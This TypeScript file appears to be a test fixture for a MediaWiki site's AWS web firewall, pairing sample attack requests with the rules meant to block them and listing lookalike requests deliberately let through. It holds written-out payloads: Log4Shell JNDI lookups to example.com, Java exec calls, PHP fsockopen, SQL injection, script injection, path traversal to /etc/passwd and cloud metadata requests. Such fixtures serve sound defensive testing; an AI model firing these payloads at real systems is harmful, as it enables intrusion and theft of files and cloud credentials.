import { illReputed } from './managed-rules.ts';
import { got, host, posted, sent, titled, type WebRequest } from './web-request.ts';

export interface Attack {
  readonly what: string;
  readonly request: WebRequest;
  /** The rule that is to stop it. */
  readonly by: string;
}

const log4j = '$' + '{jndi:ldap://example.com/}';
const java = '(java.lang.Runtime).getRuntime().exec("whoami")';
const e = encodeURIComponent;
const withHeader = (name: string, value: string, target = '/wiki/Main_Page') =>
  got(target, { headers: { [name]: value } });

/** Attacks where no wiki expects a text, each with what AWS's own descriptions give as an example. */
export const attacks: readonly Attack[] = (
  [
    ['Log4Shell in the agent', withHeader('user-agent', log4j), 'UnexpectedHeader'],
    ['Log4Shell as where it comes from', withHeader('referer', log4j), 'UnexpectedHeader'],
    [
      'Log4Shell after a foreign page',
      withHeader('referer', `https://example.com/?${log4j}`),
      'UnexpectedHeader',
    ],
    ['Log4Shell in any header', withHeader('x-api-version', log4j), 'UnexpectedHeader'],
    [
      'Log4Shell in a header, to a file',
      withHeader('x-api-version', log4j, '/static/a.css'),
      'UnexpectedHeader',
    ],
    ['Log4Shell in a query', got(`/?x=${e(log4j)}`), 'UnexpectedQuery'],
    ['Log4Shell in a query, encoded twice', got(`/?x=${e(e(log4j))}`), 'UnexpectedQuery'],
    ['Log4Shell in a path', got(`/${e(log4j)}`), 'UnexpectedPath'],
    ['Log4Shell in a body', posted('/', { x: log4j }), 'UnexpectedBody'],
    ['Java in a header', withHeader('x-a', java), 'UnexpectedHeader'],
    ['Java in a query', got(`/?class.module.classLoader.a=${e(java)}`), 'UnexpectedQuery'],
    ['Java in a path', got(`/${e(java)}`), 'UnexpectedPath'],
    ['Java in a body', sent('POST', '/invoker/readonly', java), 'UnexpectedBody'],
    ['React in a body', sent('POST', '/', '{"then":"$1:__proto__:then"}'), 'UnexpectedBody'],
    ['PHP in the agent', withHeader('user-agent', '<?php fsockopen($_GET["a"]);'), 'UnexpectedHeader'],
    ['PHP in a query', got(`/?a=${e('$_GET[a]')}`), 'UnexpectedQuery'],
    ['PHP in a path', got('/a/$_GET/fsockopen'), 'UnexpectedPath'],
    ['PHP in a body', posted('/static/a.php', { a: 'fsockopen($_GET["a"])' }), 'UnexpectedBody'],
    ['SQL in a query', got(`/?id=${e("1' or '1'='1")}`), 'UnexpectedQuery'],
    ['SQL in a query with comments', got('/product?id=1+union+select+a,b+from+c'), 'UnexpectedQuery'],
    ['SQL in a query of a file', got(`/media/a/ab/A.png?x=${e("' or '1'='1")}`), 'UnexpectedQuery'],
    ['SQL in a path', got(`/static/${e("' or '1'='1")}`), 'UnexpectedPath'],
    ['SQL in a header', withHeader('x-forwarded-for', "1' or '1'='1"), 'UnexpectedHeader'],
    ['SQL in a body', posted('/', { id: "1' or '1'='1" }), 'UnexpectedBody'],
    ['a script in a query', got(`/?q=${e('<script>alert("hello")</script>')}`), 'UnexpectedQuery'],
    ['a script in a path', got('/%3Cscript%3Ealert(1)%3C/script%3E'), 'UnexpectedPath'],
    [
      'a script in a body',
      posted('/media/a/ab/A.png', { q: '<script>alert("hello")</script>' }),
      'UnexpectedBody',
    ],
    ['a path upwards', got('/../../etc/passwd'), 'UnexpectedPath'],
    ['a path upwards, encoded', got('/static/..%2f..%2fetc%2fpasswd'), 'UnexpectedPath'],
    ['a path upwards, encoded twice', got('/static/..%252f..%252fetc%252fpasswd'), 'UnexpectedPath'],
    ['a path upwards from pages', got('/wiki/../../etc/passwd'), 'UnexpectedPath'],
    ['a path upwards from pages, encoded', got('/wiki/%2e%2e%2f%2e%2e%2fetc/passwd'), 'UnexpectedPath'],
    ['a path upwards from files', got('/media/..%2f..%2f..%2fetc/passwd'), 'UnexpectedPath'],
    ['a path upwards in a query', got('/?file=../../etc/passwd'), 'UnexpectedQuery'],
    ['a path upwards in a body', posted('/', { file: '../../etc/passwd' }), 'UnexpectedBody'],
    ['a remote file in a query', got(`/?page=${e('http://192.0.2.1/a.txt')}`), 'UnexpectedQuery'],
    ['a remote file in a body', posted('/', { page: 'http://192.0.2.1/a.txt' }), 'UnexpectedBody'],
    ['a remote file in a path', got('/proxy/http://192.0.2.1/a'), 'UnexpectedPath'],
    ['instance metadata in a query', got('/?url=http%3A%2F%2F169.254.169.254%2Flatest'), 'UnexpectedQuery'],
    ['instance metadata in a path', got('/169.254.169.254/latest'), 'UnexpectedPath'],
    ['instance metadata in a body', posted('/', { url: '169.254.169.254' }), 'UnexpectedBody'],
    ['a file of settings', got('/config/php.ini'), 'UnexpectedPath'],
    ['a log', got('/error.log'), 'UnexpectedPath'],
    ['a file of settings in a query', got('/?f=php.ini'), 'UnexpectedQuery'],
    ['WEB-INF', got('/WEB-INF/web.xml'), 'UnexpectedPath'],
    ['a body above 8 KB', sent('POST', '/', 'a'.repeat(9000)), 'UnexpectedBody'],
    ['a query above 2 KB', got(`/?${'a'.repeat(2100)}`), 'UnexpectedQuery'],
    ['a path above 1 KB', got(`/${'a'.repeat(1100)}`), 'UnexpectedPath'],
    [
      'cookies above 10 KB',
      withHeader('cookie', `a=${'b'.repeat(10_300)}`),
      'CommonRuleSet/SizeRestrictions_Cookie_HEADER',
    ],
    ['another host', withHeader('host', 'localhost'), 'KnownBadInputsRuleSet/Host_localhost_HEADER'],
    ['PROPFIND', sent('PROPFIND', '/w/index.php'), 'KnownBadInputsRuleSet/PROPFIND_METHOD'],
    [
      'a scanner',
      withHeader('user-agent', 'Nmap Scripting Engine'),
      'CommonRuleSet/UserAgent_BadBots_HEADER',
    ],
    ['no agent', withHeader('user-agent', ''), 'CommonRuleSet/NoUserAgent_HEADER'],
    [
      'an address of ill repute',
      got('/wiki/A', { address: `${illReputed}9` }),
      'AmazonIpReputationList/AWSManagedIPReputationList',
    ],
  ] as const
).map(([what, request, by]) => ({ what, request, by: by.includes('/') ? `AWSManagedRules${by}` : by }));

/**
 * What looks the same and is let through on purpose: MediaWiki is told texts there, and answers for what it does with them. The rules see
 * no difference, so none is promised.
 */
export const letThrough: readonly Pick<Attack, 'what' | 'request'>[] = [
  { what: 'Log4Shell as a search', request: got(`/w/index.php?search=${e(log4j)}`) },
  { what: 'Log4Shell as a title', request: got(`/wiki/${titled(log4j)}`) },
  { what: 'Log4Shell in a page', request: posted('/w/index.php?action=submit', { wpTextbox1: log4j }) },
  {
    what: "Log4Shell in a header, with the wiki's own page as where it comes from",
    request: got('/wiki/A', { headers: { 'x-api-version': log4j, referer: `https://${host}/wiki/B` } }),
  },
  { what: 'Log4Shell in a cookie, which the edge drops', request: withHeader('cookie', `a=${log4j}`) },
  { what: 'SQL in a cookie', request: withHeader('cookie', "wiki_session=' or '1'='1") },
  { what: 'SQL as a parameter of MediaWiki', request: got(`/w/index.php?curid=${e("1' or '1'='1")}`) },
  { what: 'SQL to the API', request: got(`/w/api.php?titles=${e("1' or '1'='1")}`) },
  { what: 'SQL to the REST API', request: got(`/w/rest.php/v1/page/${e("1' or '1'='1")}`) },
  { what: 'a script in a page', request: posted('/w/api.php', { text: '<script>alert("hello")</script>' }) },
  { what: 'a script as a title', request: got(`/wiki/${e('<script>alert(1)</script>')}`) },
  { what: 'a path upwards as a search', request: got('/w/index.php?search=../../etc/passwd') },
  {
    what: 'anything after the first 16 KB of a body',
    request: sent('POST', '/w/api.php', `${' '.repeat(17_000)}${java}`),
  },
  { what: 'a page of other software, which the wiki does not have', request: got('/wp-login.php') },
  { what: 'the same by POST', request: posted('/xmlrpc.php', { log: 'admin', pwd: 'admin' }) },
];
